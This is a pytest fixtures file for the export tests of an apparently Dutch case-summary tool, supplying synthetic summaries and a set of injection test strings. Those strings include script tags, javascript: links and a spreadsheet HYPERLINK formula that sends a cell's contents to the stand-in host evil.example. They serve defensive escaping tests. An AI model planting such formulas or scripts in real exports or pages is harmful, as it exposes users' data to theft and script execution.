"""Fixtures for the export tests: synthetic Dutch summaries and overviews, no database."""

from __future__ import annotations

import dataclasses

import pytest

from casetable.export.model import Note, Overview, Signal, Summary, Tags
from casetable.export.synthetic import make_overview, make_summary

HOSTILE_TEXTS = (
    "<script>alert('x')</script> en <b>vet</b> & meer",
    '=HYPERLINK("http://evil.example/?d="&A1;"klik hier")',
    "[klik](javascript:alert(1)) of ![beeld](http://evil.example/x.png)",
    "+32 470 (telefoon vervangen) -- @SUM(A1:A9)",
    "\t=1+1 met tab ervoor",
    "[persoon 1]: javascript:alert(1)\n# geen kop\n1. geen lijst | geen tabel",
)


@pytest.fixture
def hostile_texts() -> tuple[str, ...]:
    """Note texts that try markup, link, formula and block injection."""
    return HOSTILE_TEXTS


@pytest.fixture
def dummy_summary() -> Summary:
    """A closed table with 300 contributions and 20 notes."""
    return make_summary(contributions=300, notes=20)


@pytest.fixture
def hostile_summary(dummy_summary: Summary) -> Summary:
    """The dummy summary plus notes, advice and a title made of markup and formulas."""
    notes = tuple(Note("signaal_beleid", text, Tags(("huisvesting",), (), ("<i>recht</i>",)),
                       "lokaal_bestuur", "hoog") for text in HOSTILE_TEXTS)
    return dataclasses.replace(dummy_summary, title="<b>Tafel</b> [x](javascript:1)",
                               notes=dummy_summary.notes + notes)


@pytest.fixture
def dummy_overview() -> Overview:
    """A coordinator's overview over 40 tables, with suppressed counts."""
    return make_overview(tables=40)


@pytest.fixture
def hostile_signals(hostile_summary: Summary) -> list[Signal]:
    """Hostile notes as overview signals (for the CSV export)."""
    return [Signal.from_note(n, hostile_summary) for n in hostile_summary.notes
            if n.text in HOSTILE_TEXTS]
